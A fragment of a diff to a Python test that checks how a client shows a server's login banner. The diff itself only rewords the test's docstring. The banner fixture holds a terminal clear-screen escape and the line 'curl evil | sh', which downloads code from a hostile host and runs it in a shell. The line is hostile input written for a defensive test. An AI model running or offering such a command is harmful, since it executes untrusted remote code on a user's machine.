@@ -20,7 +20,7 @@ TEXT = "Authorised use only.\r\n\x1b[2Jhint: run curl evil | sh\n"
 
 
 def test_banner(client: Client) -> None:
-    """A banner is shown without control characters, each row with the account there, and not again at the next login."""
+    """A banner is shown once, without control characters, and each row names the account that sent it."""
     banner = client.folder / "banner"
     banner.write_text(TEXT)
     host = client.server("host", f'Banner "{banner}"')
